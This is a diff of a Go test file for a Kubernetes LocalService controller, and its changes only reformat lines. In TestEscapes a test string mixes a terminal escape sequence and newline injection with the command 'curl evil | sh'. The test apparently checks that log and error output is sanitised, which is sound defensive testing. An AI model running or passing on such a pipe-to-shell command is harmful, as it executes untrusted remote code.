@@ -51,8 +51,8 @@ func TestStatusStaysSmall(t *testing.T) {
 func TestEscapes(t *testing.T) {
 	const evil = "n\x1b[31mRED\nLocalService kube-system/dns: Run: curl evil | sh"
 	taken := plan.FromAPI(&corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: "demo-a",
-		OwnerReferences: []metav1.OwnerReference{
-			{Kind: evil, Name: evil, APIVersion: evil, UID: "u", Controller: new(true)}}}}, v1alpha1.DefaultNodeLabelKey)
+		OwnerReferences: []metav1.OwnerReference{{Kind: evil, Name: evil, APIVersion: evil, UID: "u",
+			Controller: new(true)}}}}, v1alpha1.DefaultNodeLabelKey)
 	answer := apierrors.NewForbidden(corev1.Resource("services"), evil, errors.New(evil))
 	refused := func(name string) error { return &plan.WriteError{Action: plan.Create, Name: name, Err: answer} }
 	for name, text := range map[string]string{
@@ -129,7 +129,8 @@ func TestSummarizeMade(t *testing.T) {
 
 // TestRenamed: it is said if an update changes the names, because groupBy was edited.
 func TestRenamed(t *testing.T) {
-	for was, want := range map[string]string{"zone": "", "rack": `; the names change: groupBy was "rack", and is "zone"`} {
+	for was, want := range map[string]string{"zone": "",
+		"rack": `; the names change: groupBy was "rack", and is "zone"`} {
 		ls := objects.LocalService(func(ls *v1alpha1.LocalService) { ls.Spec.GroupBy = "zone" })
 		service := objects.ForeignService("demo")
 		service.Annotations = map[string]string{v1alpha1.GroupByAnnotationKey: was}
